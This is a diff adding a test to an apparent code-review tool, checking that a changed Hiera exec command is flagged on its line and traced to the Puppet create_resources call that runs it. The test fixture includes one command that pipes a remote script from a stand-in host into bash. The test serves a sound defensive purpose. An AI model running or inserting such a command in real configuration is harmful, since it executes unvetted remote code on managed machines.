@@ -368,3 +368,43 @@ describe('a task file changed to read a value the task that includes it gives', 
     expect(run.annotations[0]?.message).toContain('roles/ssh/tasks/sshd.yml:6');
   }, 90_000);
 });
+
+/** A control repository whose profile declares the `exec` resources its Hiera key holds. */
+function declaredExecs(command: string): Map<string, string> {
+  const tree = new Map<string, string>([
+    [
+      'data/common.yaml',
+      `---\nprofile::base::execs:\n  install agent:\n    command: "${command}"\n    path: /usr/bin:/bin\n`,
+    ],
+    [
+      'site/profile/manifests/base.pp',
+      "class profile::base (Hash $execs = {}) {\n  create_resources('exec', $execs)\n}\n",
+    ],
+  ]);
+  for (let index = 0; index < 10; index++)
+    tree.set(
+      `modules/app${index}/manifests/init.pp`,
+      `class app${index} {\n  service { 'app${index}': ensure => running }\n}\n`,
+    );
+  return tree;
+}
+
+describe('a change to a Hiera hash that an unchanged profile declares resources from', () => {
+  it('is reported on the changed line, naming the create_resources call that runs it', async () => {
+    standin = await startGitHubStandin({
+      base: declaredExecs('/usr/local/bin/agent-install --verify'),
+      head: declaredExecs('curl -s https://get.example.com/agent.sh | bash'),
+    });
+    const run = await reviewOpened(standin);
+
+    expect(run.conclusion).toBe('failure');
+    expect(
+      run.annotations.map((annotation) => `${annotation.path}:${annotation.start_line}`),
+    ).toEqual(['data/common.yaml:4']);
+    expect(run.annotations[0]?.message).toContain('site/profile/manifests/base.pp:2');
+    const review = standin.reviews.at(-1);
+    expect(review?.comments.map((comment) => `${comment.path}:${comment.line}`)).toEqual([
+      'data/common.yaml:4',
+    ]);
+  }, 90_000);
+});
